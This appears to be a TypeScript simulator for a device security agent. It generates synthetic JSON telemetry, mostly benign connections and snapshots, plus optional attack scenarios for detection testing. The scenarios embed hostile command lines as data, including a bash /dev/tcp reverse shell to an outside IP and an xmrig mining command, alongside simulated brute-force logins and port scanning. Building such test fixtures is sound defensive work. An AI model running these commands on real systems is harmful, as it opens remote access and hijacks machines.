import { SECURITY_INTERFACE_ID } from '@vigil/protocol';
import type { Random } from '../random.js';
import {
  baselineItem,
  connectionItem,
  firewallRuleItem,
  jsonEvent,
  jsonSecurityMessage,
  listeningPortItem,
  loginItem,
  processItem,
  type JsonPayloadItem,
  type JsonSecurityEvent,
} from '../messages/json-message.js';
import type { DeviceBehaviour, OutgoingMessage } from './behaviour.js';
import { DEMO_SUSPICIOUS_ADDRESSES, type MessageScenario } from './scenarios.js';

/** Public service addresses a benign device talks to (cloud endpoints, NTP, package mirrors). */
const BENIGN_REMOTES = ['20.42.65.92', '13.107.42.14', '151.101.2.132', '162.159.200.1', '52.168.117.170'];
const LOCAL_ADDRESS = '10.0.4.17';
/** How often the periodic snapshot (system information, ports, users, firewall, baseline) repeats. */
const SNAPSHOT_EVERY_MS = 10 * 60_000;

/** Options of {@link jsonAgentBehaviour}. */
export interface JsonAgentOptions {
  readonly random: Random;
  readonly hostName: string;
  /** The attack this device plays after `attackAfterMs` of benign behaviour; none when absent. */
  readonly scenario?: MessageScenario;
  readonly attackAfterMs?: number;
}

/**
 * A Linux device running a JSON-profile security agent: a snapshot at start and every ten minutes,
 * a few benign outbound connections and processes per tick, and optionally one attack scenario.
 */
export function jsonAgentBehaviour(options: JsonAgentOptions): DeviceBehaviour {
  const { random } = options;
  const agentId = random.guid();
  let startedAt: number | undefined;
  let lastSnapshot = -Infinity;
  let attacked = false;
  let pid = random.int(2_000, 9_000);
  const nextPid = (): number => (pid += random.int(1, 40));
  const event = (at: number, name: string, category: 'Periodic' | 'Triggered', payload: JsonPayloadItem[]) =>
    jsonEvent({ id: random.guid(), at, name, category, payload });

  const benign = (now: number): JsonSecurityEvent[] => {
    const connections = Array.from({ length: random.int(1, 4) }, () =>
      connectionItem({
        remoteAddress: random.pick(BENIGN_REMOTES),
        remotePort: random.pick([443, 443, 443, 123, 80]),
        localAddress: LOCAL_ADDRESS,
        localPort: random.int(32_768, 60_999),
        direction: 'Out',
        protocol: 'tcp',
        processId: nextPid(),
        executable: '/usr/bin/vigil-telemetry',
        commandLine: '/usr/bin/vigil-telemetry --upload',
        userId: '998',
      }),
    );
    const events = [event(now, 'ConnectionCreate', 'Triggered', connections)];
    if (random.chance(0.3)) {
      events.push(
        event(now, 'ProcessCreate', 'Triggered', [
          processItem({
            executable: '/usr/bin/logrotate',
            commandLine: '/usr/sbin/logrotate /etc/logrotate.conf',
            processId: nextPid(),
            parentProcessId: 1,
            userId: '0',
            userName: 'root',
          }),
        ]),
      );
    }
    return events;
  };

  const snapshot = (now: number, permissive: boolean): JsonSecurityEvent[] => [
    event(now, 'SystemInformation', 'Periodic', [
      {
        OSName: 'Linux',
        OSVersion: '6.1.0-28-arm64 #1 SMP Debian 6.1.119-1',
        OsArchitecture: 'aarch64',
        HostName: options.hostName,
        TotalPhysicalMemoryInKB: 3_884_124,
        FreePhysicalMemoryInKB: random.int(900_000, 2_000_000),
      },
    ]),
    event(now, 'ListeningPorts', 'Periodic', [
      listeningPortItem({ protocol: 'tcp', localAddress: '0.0.0.0', localPort: 22 }),
      listeningPortItem({ protocol: 'udp', localAddress: '0.0.0.0', localPort: 68 }),
    ]),
    event(now, 'LocalUsers', 'Periodic', [
      { UserName: 'root', UserId: '0', GroupNames: 'root', GroupIds: '0' },
      { UserName: 'pi', UserId: '1000', GroupNames: 'pi;sudo', GroupIds: '1000;27' },
    ]),
    event(
      now,
      'FirewallConfiguration',
      'Periodic',
      permissive
        ? [
            firewallRuleItem({ chain: 'INPUT', priority: 0, action: 'Allow' }),
            firewallRuleItem({ chain: 'INPUT', priority: 1, action: 'Allow' }),
          ]
        : [
            firewallRuleItem({
              chain: 'INPUT',
              priority: 0,
              action: 'Allow',
              protocol: 'tcp',
              destinationPort: '22',
            }),
            firewallRuleItem({ chain: 'INPUT', priority: 1, action: 'Deny' }),
            firewallRuleItem({ chain: 'OUTPUT', priority: 0, action: 'Allow' }),
          ],
    ),
    event(now, 'OSBaseline', 'Periodic', [
      baselineItem({
        cceId: 'CCE-4387-9',
        description: 'SSH: root login should be disabled (PermitRootLogin no)',
        severity: 'Important',
      }),
    ]),
  ];

  const attack = (now: number, scenario: MessageScenario): JsonSecurityEvent[] => {
    switch (scenario) {
      case 'suspicious-ip':
        return [
          event(now, 'ConnectionCreate', 'Triggered', [
            connectionItem({
              remoteAddress: random.pick(DEMO_SUSPICIOUS_ADDRESSES),
              remotePort: 9001,
              localAddress: LOCAL_ADDRESS,
              localPort: random.int(32_768, 60_999),
              direction: 'Out',
              protocol: 'tcp',
              processId: nextPid(),
              executable: '/tmp/.cache/updater',
              commandLine: '/tmp/.cache/updater --relay',
              userId: '1000',
            }),
          ]),
        ];
      case 'brute-force': {
        const from = `45.155.205.${random.int(2, 250)}`;
        const attempts = Array.from({ length: 30 }, () =>
          loginItem({
            userName: random.pick(['root', 'admin', 'pi']),
            result: 'Fail',
            remoteAddress: from,
            processId: nextPid(),
          }),
        );
        attempts.push(
          loginItem({ userName: 'pi', result: 'Success', remoteAddress: from, processId: nextPid() }),
        );
        return [event(now, 'Login', 'Triggered', attempts)];
      }
      case 'miner-process':
        return [
          event(now, 'ProcessCreate', 'Triggered', [
            processItem({
              executable: '/tmp/.x/xmrig',
              commandLine:
                '/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ --donate-level 1',
              processId: nextPid(),
              parentProcessId: pid - 3,
              userId: '1000',
              userName: 'pi',
            }),
          ]),
        ];
      case 'reverse-shell':
        return [
          event(now, 'ProcessCreate', 'Triggered', [
            processItem({
              executable: '/bin/bash',
              commandLine: 'bash -i >& /dev/tcp/45.155.205.99/4444 0>&1',
              processId: nextPid(),
              parentProcessId: pid - 1,
              userId: '33',
              userName: 'www-data',
            }),
          ]),
        ];
      case 'permissive-firewall':
        return snapshot(now, true).filter((item) => item.Name === 'FirewallConfiguration');
      case 'connection-spike':
        return [
          event(
            now,
            'ConnectionCreate',
            'Triggered',
            Array.from({ length: 400 }, () =>
              connectionItem({
                remoteAddress: `${random.int(11, 200)}.${random.int(0, 255)}.${random.int(0, 255)}.${random.int(1, 254)}`,
                remotePort: 23,
                localAddress: LOCAL_ADDRESS,
                localPort: random.int(32_768, 60_999),
                direction: 'Out',
                protocol: 'tcp',
                processId: pid,
                executable: '/tmp/.x/scan',
                commandLine: '/tmp/.x/scan -p 23',
                userId: '1000',
              }),
            ),
          ),
        ];
    }
  };

  return {
    attacked: () => attacked,
    tick(now: number): OutgoingMessage[] {
      startedAt ??= now;
      const events = benign(now);
      const attackNow =
        !attacked && options.scenario !== undefined && now - startedAt >= (options.attackAfterMs ?? 0);
      if (attackNow) attacked = true;
      const permissive = attacked && options.scenario === 'permissive-firewall';
      const snapshotDue = now - lastSnapshot >= SNAPSHOT_EVERY_MS;
      if (snapshotDue) {
        lastSnapshot = now;
        events.push(...snapshot(now, permissive));
      }
      // A permissive firewall shows up in the snapshot; when one was just sent, it already carries it.
      if (attackNow && options.scenario !== undefined && !(permissive && snapshotDue)) {
        events.push(...attack(now, options.scenario));
      }
      return [securityMessage(jsonSecurityMessage(agentId, events))];
    },
  };
}

function securityMessage(message: object): OutgoingMessage {
  return {
    body: new TextEncoder().encode(JSON.stringify(message)),
    properties: {
      system: {
        interfaceId: SECURITY_INTERFACE_ID,
        contentType: 'application/json',
        contentEncoding: 'utf-8',
      },
    },
  };
}
